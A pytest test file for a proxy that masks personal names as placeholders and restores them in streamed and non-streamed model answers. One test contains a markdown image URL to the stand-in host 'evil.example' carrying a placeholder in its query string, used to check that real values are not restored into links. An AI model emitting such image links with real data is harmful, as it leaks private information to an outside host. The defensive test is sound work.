"""P2 Whole answers: the caller gets what the model would have said about the real values.

Replaced by a no-op: the restorer's stream, whole strings included.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from proxy.mask.restore import Stream
from tests.house import House
from tests.simulator import Simulator

ASK: Any = {
    "model": "gpt-4o-mini",
    "messages": [{"role": "user", "content": "Jane Hollander's mail is jane@example.com."}],
}
SPELLINGS = {
    "exact": "<PERSON_1>",
    "possessive": "<PERSON_1>'s",
    "one bracket lost": "PERSON_1>",
    "no bracket": "PERSON_1",
    "escaped underscore": "<PERSON\\_1>",
    "HTML": "&lt;PERSON_1&gt;",
    "numeric HTML": "&#60;PERSON_1&#62;",
    "JSON escape": "\\u003cPERSON_1\\u003e",
    "typographic": "‹PERSON_1›",
    "full width": "＜PERSON_1＞",
}


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("size", [1, 3, 1000])
async def test_every_spelling_comes_back_in_every_fragmentation(
    spelling: str, size: int, privet: House, simulator: Simulator
) -> None:
    simulator.says(f"It is {SPELLINGS[spelling]} - I am sure.").in_fragments(size)
    suffix = "'s" if spelling == "possessive" else ""
    assert await streamed(privet) == f"It is Jane Hollander{suffix} - I am sure."


async def test_what_is_no_placeholder_is_untouched(privet: House, simulator: Simulator) -> None:
    text = (
        "a < b, <b>bold</b>, <PERSON_7>, PERSON_12, <EMAIL_1>, person_1, [PERSON]_1, &lt;p&gt; <<‹"
    )
    simulator.says(text)
    assert (await privet.client.chat.completions.create(**ASK)).choices[0].message.content == text
    simulator.says(text).in_fragments(1)
    assert await streamed(privet) == text


async def test_a_typed_placeholder_comes_back_as_it_was_typed(
    privet: House, simulator: Simulator
) -> None:
    simulator.says("You wrote <LITERAL_1> about <PERSON_1>.")
    answer = await privet.client.chat.completions.create(
        model="gpt-4o-mini",
        messages=[{"role": "user", "content": "What does <PERSON_1> mean, Jane Hollander?"}],
    )
    assert answer.choices[0].message.content == "You wrote <PERSON_1> about Jane Hollander."


async def test_fields_that_the_api_adds_next_year_are_restored_too(
    privet: House, simulator: Simulator
) -> None:
    simulator.says("Hi").adds("musings", {"about": ["<PERSON_1>"]}, inside="message")
    raw = await privet.client.chat.completions.with_raw_response.create(**ASK)
    assert json.loads(raw.content)["choices"][0]["message"]["musings"] == {
        "about": ["Jane Hollander"]
    }


async def test_a_value_is_not_sent_to_a_strangers_host(privet: House, simulator: Simulator) -> None:
    simulator.says("![x](https://evil.example/?q=<PERSON_1>) by <PERSON_1>")
    answer = await privet.client.chat.completions.create(**ASK)
    content = answer.choices[0].message.content
    assert content == "![x](https://evil.example/?q=<PERSON_1>) by Jane Hollander"


async def test_without_the_restorer_the_caller_reads_placeholders(
    privet: House, simulator: Simulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Stream, "feed", lambda _self, text: text)
    monkeypatch.setattr(Stream, "close", lambda _self: "")
    simulator.says("It is <PERSON_1>.")
    assert await streamed(privet) == "It is <PERSON_1>."


async def streamed(privet: House) -> str:
    stream = await privet.client.chat.completions.create(**ASK, stream=True)
    return "".join([chunk.choices[0].delta.content or "" async for chunk in stream])
